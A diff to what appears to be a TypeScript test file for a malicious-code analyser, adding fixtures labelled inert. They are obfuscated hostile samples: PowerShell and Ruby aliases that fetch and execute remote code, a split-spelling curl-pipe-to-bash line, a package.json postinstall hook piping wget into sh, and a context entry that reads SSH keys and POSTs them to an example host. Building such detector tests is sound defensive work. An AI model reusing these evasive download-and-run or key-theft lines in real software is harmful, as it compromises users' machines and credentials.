@@ -5,6 +5,16 @@ import { held } from "./analyse.ts";
 /** Behaviours in odd places and odd spellings: settings files, notebooks, fences, escapes, joined words. Inert. */
 const HELD: [string, string][] = [
   [
+    "a.ps1",
+    "Set-Alias get Invoke-WebRequest\nNew-Alias -Name go -Value iex\n$page = get http://203.0.113.7/p.ps1\ngo $page.Content",
+  ],
+  ["a.rb", 'require "open-uri"\nalias go eval\ngo URI.open("http://203.0.113.7/p").read'],
+  ["a.sh", "cu${q}rl -s http://203.0.113.7/p | ba${q}sh"],
+  [
+    "package.json",
+    '{"name":"a","version":"1.0.0","scripts":{"postinstall":"wg${_x}et -qO- https://quartz.example/n | s${_x}h"}}',
+  ],
+  [
     "a.mjs",
     'import { readdirSync, readFileSync } from "node:fs";\nasync function main() {\n  const dir = process.env.HOME + "\\x2f\\x2e\\x73\\x73\\x68\\x2f";\n  const keys = readdirSync(dir).filter((n) => !n.endsWith("\\x2e")).map((n) => readFileSync(dir + n, "utf8"));\n  await \\u0066etch("https://c.example/h", { method: "POST", body: JSON.stringify(keys) });\n}\nawait main();',
   ],
